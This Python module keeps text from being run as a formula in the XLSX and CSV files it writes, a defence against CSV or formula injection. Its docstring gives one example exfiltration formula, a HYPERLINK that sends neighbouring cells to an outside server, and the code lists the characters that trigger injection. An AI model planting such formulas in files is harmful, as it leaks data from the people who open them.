"""Text stays text in every spreadsheet and CSV file govscore writes.

Unit names, group names, text values, reasons and titles are typed by people, and a spreadsheet
program runs some text as a formula: `=HYPERLINK("http://…"&B5, …)` would send the neighbouring cells
to anyone's server when the file is opened.

- XLSX: openpyxl stores a string starting with `=` as a formula, and `#N/A` and the like as error
  values. Every workbook writer appends its rows with `append`, and makes its styled cells with
  `text_cell`: a string is then a cell typed as text, whatever it starts with, and reads back as the
  same string.
- CSV has no types: a spreadsheet program runs a field starting with `=`, `+`, `-`, `@`, a tab or a
  carriage return. `csv_field` prefixes such a field with an apostrophe, as OWASP recommends
  ("CSV injection"); a plain number (`-2.5`) is left as it is, since it is no formula.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

from openpyxl.cell import Cell, WriteOnlyCell  # type: ignore[import-untyped]
from openpyxl.cell.cell import ERROR_CODES  # type: ignore[import-untyped]
from openpyxl.styles import Alignment, Font  # type: ignore[import-untyped]

# openpyxl ships no type information: its worksheets are Any to the type checker.
Sheet = Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:[.,][0-9]+)?")
TEXT = "s"


def text_cell(sheet: Sheet, value: str, font: Font | None = None, alignment: Alignment | None = None) -> Cell:
    """A cell holding `value` as text (never a formula or an error value), optionally styled."""
    cell = WriteOnlyCell(sheet, value=value)
    cell.data_type = TEXT
    if font is not None:
        cell.font = font
    if alignment is not None:
        cell.alignment = alignment
    return cell


def as_text(sheet: Sheet, value: object) -> object:
    """A value as a row holds it: a string openpyxl would not store as text becomes a text cell, a cell
    holding a string is typed as text; numbers, dates and empty cells stay as they are.

    Other strings are appended as they are, which openpyxl stores as text: a cell object for each
    one would cost a quarter of the time of a large template."""
    if isinstance(value, str):
        return text_cell(sheet, value) if value.startswith("=") or value in ERROR_CODES else value
    if isinstance(value, Cell) and isinstance(value.value, str):
        value.data_type = TEXT
    return value


def append(sheet: Sheet, values: Iterable[object]) -> None:
    """Append one row to `sheet` (write-only or not) with every string in it stored as text."""
    sheet.append([as_text(sheet, value) for value in values])


def csv_field(value: object) -> str:
    """A CSV field a spreadsheet program shows as the text it is: `'=1+1`, but `-2.5` unchanged."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def csv_row(values: Iterable[object]) -> list[str]:
    return [csv_field(value) for value in values]
